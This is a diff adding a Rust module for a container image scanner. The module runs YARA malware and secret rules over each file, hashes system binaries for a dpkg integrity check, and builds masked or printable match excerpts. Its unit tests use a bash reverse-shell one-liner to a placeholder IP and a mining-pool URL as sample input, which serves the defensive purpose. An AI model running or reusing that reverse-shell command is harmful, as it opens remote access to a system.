@@ -1,0 +1,200 @@
+//! The analyzer that reads every regular file: YARA rules (malware and secrets) and the MD5
+//! digests that the package check compares with dpkg's lists.
+
+use std::io::Read;
+
+use boreal::MetadataValue;
+use md5::{Digest as _, Md5};
+use stowaway_image::{Analyzer, AnalyzerError, Fact, FileInfo, ImagePath, Interest};
+use stowaway_model::Level;
+
+use crate::rules::RuleSet;
+use crate::secrets::{self, SecretCheck};
+use crate::{DetectionKind, Scanners};
+
+/// Folders whose files dpkg's `md5sums` lists are checked against: where executables and
+/// shared libraries live, which is where a backdoor replaces a system file.
+const CHECKED_PREFIXES: &[&[u8]] = &[b"bin/", b"sbin/", b"usr/bin/", b"usr/sbin/", b"lib/", b"lib64/", b"usr/lib/", b"usr/lib64/", b"usr/libexec/"];
+
+/// Characters of an excerpt kept around the match.
+const MAX_EXCERPT_CHARS: usize = 160;
+
+/// One rule that matched one file.
+#[derive(Clone, Debug)]
+pub(crate) struct RuleHit {
+    pub(crate) id: String,
+    pub(crate) severity: Level,
+    pub(crate) kind: DetectionKind,
+    pub(crate) title: String,
+    /// The matched text (masked for secrets), one line.
+    pub(crate) excerpt: Option<String>,
+    pub(crate) offset: usize,
+    /// The length of the match, which is what redaction replaces.
+    pub(crate) length: usize,
+    /// The rule skips files that OS packages own.
+    pub(crate) outside_packages: bool,
+}
+
+/// What the content analyzer learned from one file.
+#[derive(Debug, Default)]
+pub(crate) struct FileScan {
+    pub(crate) hits: Vec<RuleHit>,
+    /// The MD5 digest of the whole file, for files in [`CHECKED_PREFIXES`].
+    pub(crate) md5: Option<[u8; 16]>,
+    /// True when the read stopped at the size limit, so rules saw only the start of the file.
+    pub(crate) truncated: bool,
+}
+
+/// Runs the YARA rules over every regular file, up to the configured size.
+pub(crate) struct ContentAnalyzer {
+    rules: RuleSet,
+    scanners: Scanners,
+    interest: Interest,
+}
+
+impl ContentAnalyzer {
+    pub(crate) fn new(rules: RuleSet, scanners: Scanners, max_file_size: u64) -> ContentAnalyzer {
+        ContentAnalyzer { rules, scanners, interest: Interest::all_files(max_file_size) }
+    }
+
+    /// Returns the compiled rules, which the config checks reuse.
+    pub(crate) fn rules(&self) -> &RuleSet {
+        &self.rules
+    }
+}
+
+impl Analyzer for ContentAnalyzer {
+    fn name(&self) -> &str {
+        "detect-content"
+    }
+
+    fn interest(&self) -> &Interest {
+        &self.interest
+    }
+
+    fn analyze(&self, file: &FileInfo<'_>, content: &mut dyn Read) -> Result<Option<Fact>, AnalyzerError> {
+        let mut bytes = Vec::with_capacity(file.entry.size.min(self.interest.max_read()) as usize);
+        content.read_to_end(&mut bytes)?;
+        let truncated = file.is_truncated(&self.interest);
+
+        let hits = scan_bytes(&self.rules, self.scanners, &bytes);
+        // NOTE: a file over the size limit is scanned for its first bytes only and never
+        // compared with dpkg's digests; `truncated` carries that into the detection.
+        let md5 = (!truncated && is_checked_path(file.path)).then(|| Md5::digest(&bytes).into());
+
+        if hits.is_empty() && md5.is_none() {
+            return Ok(None);
+        }
+        if !hits.is_empty() {
+            tracing::trace!(path = %file.path, layer = file.layer, hits = hits.len(), "rules matched");
+        }
+        Ok(Some(Box::new(FileScan { hits, md5, truncated })))
+    }
+}
+
+fn is_checked_path(path: &ImagePath) -> bool {
+    let bytes = path.as_bytes();
+    CHECKED_PREFIXES.iter().any(|prefix| bytes.starts_with(prefix))
+}
+
+/// Scans `bytes` with every rule the enabled scanners cover and returns one hit per matching
+/// rule. Secret matches are confirmed and masked here, so no full value is kept.
+pub(crate) fn scan_bytes(rules: &RuleSet, scanners: Scanners, bytes: &[u8]) -> Vec<RuleHit> {
+    let result = match rules.scanner.scan_mem(bytes) {
+        Ok(result) => result,
+        Err((error, partial)) => {
+            tracing::warn!(?error, "YARA scan stopped early; keeping the rules matched so far");
+            partial
+        }
+    };
+
+    let mut hits = Vec::new();
+    for rule in &result.rules {
+        let Some(info) = rules.info(rule.namespace, rule.name) else { continue };
+        let enabled = match info.kind {
+            DetectionKind::Secret => scanners.secret,
+            _ => scanners.malware,
+        };
+        if !enabled {
+            continue;
+        }
+
+        let matches = rule.matches.iter().flat_map(|string| string.matches.iter());
+        let (excerpt, offset, length) = if info.kind == DetectionKind::Secret {
+            let check = secret_check(rules, rule.metadatas);
+            let confirmed = matches.filter_map(|m| Some((secrets::confirm(check, bytes, m.offset, m.length)?, m.offset, m.length))).next();
+            match confirmed {
+                Some((excerpt, offset, length)) => (Some(excerpt), offset, length),
+                None => continue,
+            }
+        } else {
+            match matches.min_by_key(|m| m.offset) {
+                Some(first) => (Some(line_excerpt(bytes, first.offset, first.length)), first.offset, first.length),
+                None => (None, 0, 0),
+            }
+        };
+
+        hits.push(RuleHit {
+            id: info.id.clone(),
+            severity: info.severity,
+            kind: info.kind,
+            title: info.description.clone(),
+            excerpt,
+            offset,
+            length,
+            outside_packages: info.outside_packages,
+        });
+    }
+    hits
+}
+
+fn secret_check(rules: &RuleSet, metadatas: &[boreal::Metadata]) -> SecretCheck {
+    metadatas
+        .iter()
+        .find(|meta| rules.scanner.get_string_symbol(meta.name) == "check")
+        .and_then(|meta| match meta.value {
+            MetadataValue::Bytes(symbol) => std::str::from_utf8(rules.scanner.get_bytes_symbol(symbol)).ok().and_then(SecretCheck::from_name),
+            _ => None,
+        })
+        // A user secret rule without `check` is treated as a token, the strictest check that
+        // still masks the value.
+        .unwrap_or(SecretCheck::Token)
+}
+
+/// Returns the line around a match, printable characters only, cut to [`MAX_EXCERPT_CHARS`]
+/// starting at the match when the line is longer.
+pub(crate) fn line_excerpt(bytes: &[u8], offset: usize, length: usize) -> String {
+    let offset = offset.min(bytes.len());
+    let start = bytes[..offset].iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
+    let end = bytes[offset..].iter().position(|b| *b == b'\n').map_or(bytes.len(), |i| offset + i);
+    let start = if offset - start > MAX_EXCERPT_CHARS / 2 || length > MAX_EXCERPT_CHARS { offset } else { start };
+
+    String::from_utf8_lossy(&bytes[start..end])
+        .chars()
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .take(MAX_EXCERPT_CHARS)
+        .collect::<String>()
+        .trim()
+        .to_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn excerpt_is_the_matching_line() {
+        let bytes = b"first\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nlast\n";
+        assert_eq!(line_excerpt(bytes, 14, 10), "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
+    }
+
+    #[test]
+    fn excerpt_of_binary_is_printable_and_bounded() {
+        let mut bytes = vec![0u8; 500];
+        bytes.extend_from_slice(b"stratum+tcp://pool.invalid:3333");
+        bytes.extend(vec![1u8; 500]);
+        let excerpt = line_excerpt(&bytes, 500, 31);
+        assert!(excerpt.starts_with("stratum+tcp://pool.invalid:3333"), "{excerpt}");
+        assert!(excerpt.chars().count() <= MAX_EXCERPT_CHARS);
+    }
+}
